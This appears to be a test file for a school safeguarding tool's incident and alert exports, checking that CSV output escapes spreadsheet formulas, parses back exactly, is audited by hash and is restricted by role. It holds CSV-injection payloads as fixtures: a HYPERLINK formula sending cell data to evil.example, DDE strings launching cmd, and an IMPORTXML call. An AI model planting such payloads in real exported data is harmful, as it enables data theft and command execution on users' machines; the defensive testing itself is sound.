// Incidents and alerts out as CSV/JSON (issue 18 item 4), over real HTTP on a real level store.
// Device text is the attacker's: hostile titles, user names and terms must come out of the CSV as
// text a spreadsheet will not run (leading apostrophe), and the file must parse back (RFC 4180)
// to exactly what was stored. Every export is audited with the hash of the exact file.
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../src/csv.ts';
import { CHRONOLOGY_COLUMNS } from '../../src/safeguarding/chronology.ts';
import type { Alert, Device } from '../../src/store/types.ts';
import { Client, type Harness, startHarness, userClient } from '../auth/harness.ts';
import { makePng, seedAlert, seedDevice } from './seed.ts';

/**
 * An RFC 4180 reader written for the test, independent of the writer: quoted fields may hold
 * commas, doubled quotes and CRLF; records end with CRLF. Throws on a stray quote.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let inQuotes = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (inQuotes) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') inQuotes = false;
      else cell += c;
    } else if (c === '"') {
      if (cell !== '' || wasQuoted) throw new Error(`stray quote at ${i}`);
      inQuotes = true;
      wasQuoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      wasQuoted = false;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      wasQuoted = false;
      i++;
    } else if (c === '\n' || c === '\r') throw new Error(`bare line break outside quotes at ${i}`);
    else cell += c;
  }
  if (inQuotes) throw new Error('unterminated quoted field');
  if (cell !== '' || row.length) throw new Error('last record has no CRLF');
  return rows;
}

const FORMULA = /^[\t\r]|^\s*[=+\-@]/;

// Payloads a pupil (or anyone who can set a window title or a login name) controls.
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for help")';
const DDE = "=cmd|' /C calc'!A0";
const PLUS = '+SUM(1,2)';
const AT = '@SUM(1+1)*cmd|"/C calc"!A0';
const TAB = '\t=1+1';
const MINUS = '-2+3';
const CR = '\r=1+1';

describe('CSV cells (pure)', () => {
  it('prefixes formula starters with an apostrophe and quotes per RFC 4180', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell(PLUS)).toBe(`"'+SUM(1,2)"`);
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('say "hi", then go')).toBe('"say ""hi"", then go"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('\n@x')).toBe(`"'\n@x"`);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a = b')).toBe('a = b');
    expect(toCsv(['a', 'b'], [['1', '=2']])).toBe("a,b\r\n1,'=2\r\n");
  });
});

describe('exports over HTTP', () => {
  let h: Harness;
  let dsl: Client;
  let device: Device;
  let byodDevice: Device;
  let hostile: Alert;
  let mild: Alert;
  let older: Alert;
  let incidentId: string;
  const png = makePng(8, 8, [9, 9, 9]);
  const pngSha = createHash('sha256').update(png).digest('hex');
  const t0 = Date.UTC(2026, 10, 20, 9, 30); // 09:30 GMT on 20 Nov 2026

  beforeAll(async () => {
    h = await startHarness();
    dsl = await userClient(h, 'dsl.exporter', 'dsl');
    device = await seedDevice(h.store, { hostname: DDE });
    byodDevice = await seedDevice(h.store, {
      kind: 'byod',
      byod: {
        userName: AT,
        agreementVersion: '1',
        agreementSha256: '0'.repeat(64),
        acceptedAt: t0 - 86_400_000,
        codeHash: '1'.repeat(64),
      },
    });
    hostile = await seedAlert(h.store, {
      device,
      time: t0,
      title: HYPERLINK,
      term: MINUS,
      context: `${TAB} and "quoted", with commas\r\nand a second line`,
      user: PLUS,
      severity: 5,
      category: 'suicide',
      screenshot: png,
    });
    // No heartbeat user at the time on this one: the BYOD agreement's name is used.
    mild = await seedAlert(h.store, {
      device: byodDevice,
      time: t0 + 3_600_000,
      user: '',
      severity: 2,
      category: 'bullying',
      title: CR,
    });
    older = await seedAlert(h.store, { device, time: t0 - 10 * 86_400_000, severity: 4 });
  });
  afterAll(async () => {
    await h.close();
  });

  it('exports one incident as CSV that parses back exactly, with no cell a spreadsheet would run', async () => {
    expect((await dsl.req('POST', `/api/v1/alerts/${hostile.id}/grade`, { grade: 4 })).status).toBe(200);
    expect(
      (await dsl.req('POST', `/api/v1/alerts/${hostile.id}/notes`, { text: '=IMPORTXML("http://x")' }))
        .status,
    ).toBe(200);
    const esc = await dsl.req('POST', `/api/v1/alerts/${hostile.id}/escalate`, {
      incident: {
        title: '@Concern, "urgent"',
        description: 'Pupil searched at lunch.\nSpoke to them, "ok".',
        occurredAt: t0,
        peopleInvolved: [
          { name: '=1+2 Pupil', role: 'pupil' },
          { name: 'Mr Form Tutor', role: 'staff' },
        ],
        actionsTaken: '-Called parents',
        referral: { agency: 'childrens-social-care', reference: 'MASH-77' },
        outcome: 'referred-externally',
      },
    });
    expect(esc.status).toBe(200);
    incidentId = esc.json.incident.id;
    // An evidence bundle first: its hash must be on the row.
    const bundle = await dsl.req('GET', `/api/v1/incidents/${incidentId}/export`);
    expect(bundle.status).toBe(200);
    const bundleSha = bundle.headers.get('x-evidence-sha256');

    const r = await dsl.req('GET', `/api/v1/exports/incidents/${incidentId}?format=csv`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(r.headers.get('content-disposition')).toBe(`attachment; filename="incident-${incidentId}.csv"`);
    expect(r.headers.get('cache-control')).toContain('no-store');
    const rows = parseCsv(r.text);
    expect(rows[0]).toEqual([...CHRONOLOGY_COLUMNS]);
    expect(rows).toHaveLength(2);
    const row = Object.fromEntries(CHRONOLOGY_COLUMNS.map((c, i) => [c, rows[1]?.[i] ?? '']));
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(FORMULA);
    expect(row.record_type).toBe('incident');
    expect(row.record_id).toBe(incidentId);
    expect(row.occurred_at).toBe('2026-11-20T09:30:00.000Z');
    expect(row.date).toBe('20/11/2026');
    expect(row.time).toBe('09:30');
    expect(row.title).toBe(`'@Concern, "urgent"`);
    expect(row.description).toBe('Pupil searched at lunch.\nSpoke to them, "ok".');
    expect(row.pupil_name).toBe("'=1+2 Pupil");
    expect(row.pupil_name_source).toBe('incident record');
    expect(row.device).toBe(`'${DDE}`);
    expect(row.category).toBe('suicide');
    expect(row.severity).toBe('4'); // the DSL's grade replaces the matcher's 5
    expect(row.outcome).toBe('referred-externally');
    expect(row.referral).toBe('childrens-social-care, ref MASH-77');
    expect(row.status).toBe('open');
    expect(row.recorded_by).toBe('dsl.exporter');
    expect(row.staff).toBe('dsl.exporter');
    expect(row.linked_records).toBe(hostile.id);
    expect(row.screenshot_sha256).toBe(`${hostile.screenshotBlobIds[0]}=${pngSha}`);
    expect(row.evidence_bundle_sha256).toBe(bundleSha);
    const actions = (row.actions_taken ?? '').split('\n');
    expect(actions[0]).toBe("'-Called parents");
    expect(actions.some((a) => a.endsWith(`dsl.exporter: graded severity 4 (alert ${hostile.id})`))).toBe(
      true,
    );
    expect(actions.some((a) => a.includes('note: =IMPORTXML("http://x")'))).toBe(true);
    expect(actions.some((a) => a.endsWith('dsl.exporter: opened the incident record'))).toBe(true);

    // The audit record: who, what, how many, and the hash of exactly these bytes.
    const digest = createHash('sha256').update(r.bytes).digest('hex');
    expect(r.headers.get('x-export-sha256')).toBe(digest);
    const rec = (await h.store.audit.list({ action: 'records.exported', target: `incident:${incidentId}` }))
      .records[0];
    expect(rec?.actor).toBe('dsl.exporter');
    expect(rec?.details).toMatchObject({
      kind: 'incidents',
      format: 'csv',
      scope: 'one',
      id: incidentId,
      count: 1,
      ids: [incidentId],
      sha256: digest,
      bytes: r.bytes.byteLength,
      exportId: r.headers.get('x-export-id'),
    });
  });

  it('puts later changes to the incident in its actions, with the coded values', async () => {
    const patch = await dsl.req('PATCH', `/api/v1/incidents/${incidentId}`, {
      status: 'closed',
      outcomeNotes: 'Support plan agreed',
    });
    expect(patch.status).toBe(200);
    const r = await dsl.req('GET', `/api/v1/exports/incidents/${incidentId}?format=json`);
    const row = JSON.parse(r.text).records[0];
    expect(row.status).toBe('closed');
    expect(row.outcome).toBe('referred-externally: Support plan agreed');
    expect(row.actions_taken.at(-1)).toMatch(
      /^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2} dsl\.exporter: updated (status open -> closed, outcomeNotes|outcomeNotes, status open -> closed)$/,
    );
  });

  it('keeps the raw values in JSON (no spreadsheet there), with lists as lists', async () => {
    const r = await dsl.req('GET', `/api/v1/exports/incidents/${incidentId}?format=json`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-disposition')).toBe(`attachment; filename="incident-${incidentId}.json"`);
    const doc = JSON.parse(r.text);
    expect(doc.export).toMatchObject({ kind: 'incidents', count: 1, generatedBy: 'dsl.exporter' });
    expect(doc.export.columns).toEqual([...CHRONOLOGY_COLUMNS]);
    expect(doc.records[0].pupil_name).toEqual(['=1+2 Pupil']);
    expect(doc.records[0].title).toBe('@Concern, "urgent"');
    expect(doc.records[0].screenshot_sha256).toEqual([`${hostile.screenshotBlobIds[0]}=${pngSha}`]);
    const digest = createHash('sha256').update(r.bytes).digest('hex');
    const rec = (await h.store.audit.list({ action: 'records.exported', target: `incident:${incidentId}` }))
      .records[0];
    expect(rec?.details).toMatchObject({ format: 'json', sha256: digest });
  });

  it('exports alerts of a date range with filters, oldest first, hostile text inert', async () => {
    const from = new Date(t0 - 86_400_000).toISOString();
    const to = new Date(t0 + 86_400_000).toISOString();
    const r = await dsl.req('GET', `/api/v1/exports/alerts?from=${from}&to=${to}`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-disposition')).toBe(
      'attachment; filename="alerts-2026-11-19-to-2026-11-21.csv"',
    );
    const rows = parseCsv(r.text);
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(FORMULA);
    const col = (name: (typeof CHRONOLOGY_COLUMNS)[number]) => CHRONOLOGY_COLUMNS.indexOf(name);
    // `older` is outside the range; the two inside come oldest first.
    expect(rows.slice(1).map((x) => x[col('record_id')])).toEqual([hostile.id, mild.id]);
    const [first, second] = [rows[1] as string[], rows[2] as string[]];
    expect(first[col('pupil_name')]).toBe(`'${PLUS}`);
    expect(first[col('pupil_name_source')]).toBe('device login name at the time');
    expect(first[col('title')]).toBe('suicide: "-2+3"');
    expect(first[col('description')]).toContain(`Window: ${HYPERLINK}`);
    expect(first[col('description')]).toContain('"quoted", with commas\r\nand a second line');
    expect(first[col('outcome')]).toBe(`escalated to incident ${incidentId}`);
    expect(second[col('pupil_name')]).toBe(`'${AT}`);
    expect(second[col('pupil_name_source')]).toBe('name given on the BYOD agreement');
    expect(second[col('severity')]).toBe('2');
    expect(second[col('screenshot_sha256')]).toBe('');

    const rec = (await h.store.audit.list({ action: 'records.exported', target: 'alerts:range' })).records[0];
    expect(rec?.details).toMatchObject({
      kind: 'alerts',
      scope: 'range',
      from: Date.parse(from),
      to: Date.parse(to),
      count: 2,
      ids: [hostile.id, mild.id],
      sha256: createHash('sha256').update(r.bytes).digest('hex'),
    });

    // The queue's filters apply: minimum severity 3 leaves the hostile one only.
    const f = await dsl.req('GET', `/api/v1/exports/alerts?from=${from}&to=${to}&minSeverity=3&format=json`);
    expect(f.status).toBe(200);
    expect(JSON.parse(f.text).records.map((x: { record_id: string }) => x.record_id)).toEqual([hostile.id]);
    const frec = (await h.store.audit.list({ action: 'records.exported', target: 'alerts:range' }))
      .records[0];
    expect(frec?.details).toMatchObject({ count: 1, filters: { minSeverity: 3 } });
  });

  it('exports one alert, and incidents of a range; refuses a backwards range and other roles', async () => {
    const one = await dsl.req('GET', `/api/v1/exports/alerts/${older.id}`);
    expect(one.status).toBe(200);
    expect(parseCsv(one.text)).toHaveLength(2);
    expect(one.headers.get('content-disposition')).toBe(`attachment; filename="alert-${older.id}.csv"`);

    const range = await dsl.req('GET', '/api/v1/exports/incidents?from=2026-11-01&to=2026-12-01&format=json');
    expect(range.status).toBe(200);
    expect(JSON.parse(range.text).records.map((x: { record_id: string }) => x.record_id)).toEqual([
      incidentId,
    ]);
    const none = await dsl.req('GET', '/api/v1/exports/incidents?from=2026-12-01&to=2027-01-01');
    expect(parseCsv(none.text)).toEqual([[...CHRONOLOGY_COLUMNS]]);
    const rec = (await h.store.audit.list({ action: 'records.exported', target: 'incidents:range' }))
      .records[0];
    expect(rec?.details).toMatchObject({ count: 0, from: Date.UTC(2026, 11, 1) });

    const back = await dsl.req('GET', '/api/v1/exports/incidents?from=2026-12-01&to=2026-11-01');
    expect(back.status).toBe(400);
    expect(back.json.error.code).toBe('CUST_ERR_INVALID_INPUT');
    expect((await dsl.req('GET', '/api/v1/exports/alerts/al_nope')).status).toBe(404);

    const it = await userClient(h, 'it.person', 'it');
    const token = new Client(h.url, h.adminToken);
    for (const c of [it, token]) {
      const r = await c.req('GET', `/api/v1/exports/incidents/${incidentId}`);
      expect(r.status).toBe(403);
      expect(r.json.error.code).toBe('CUST_ERR_FORBIDDEN');
    }
    expect((await new Client(h.url).req('GET', '/api/v1/exports/alerts')).status).toBe(401);
  });
});
